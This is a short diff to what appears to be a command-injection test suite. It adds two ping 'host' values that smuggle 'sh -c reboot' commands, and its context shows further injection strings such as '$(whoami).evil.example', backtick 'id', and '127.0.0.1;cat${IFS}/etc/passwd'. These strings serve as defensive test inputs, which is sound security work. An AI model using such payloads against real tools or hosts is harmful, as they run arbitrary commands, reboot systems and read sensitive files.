@@ -160,6 +160,9 @@ describe('command injection', () => {
     ['git_clone', { repository: 'ext::sh -c id' }],
     ['ping', { host: '$(whoami).evil.example' }],
     ['ping', { host: '`id`' }],
+    // `-c` makes no sentence of it.
+    ['ping', { host: 'sh -c reboot now please' }],
+    ['ping', { host: 'nohup sh -c reboot now | tee out' }],
     ['ping', { host: '8.8.8.8%0Aid' }],
     ['ping', { host: "127.0.0.1;w'h'o\\ami" }],
     ['ping', { host: '127.0.0.1;cat${IFS}/etc/passwd' }],
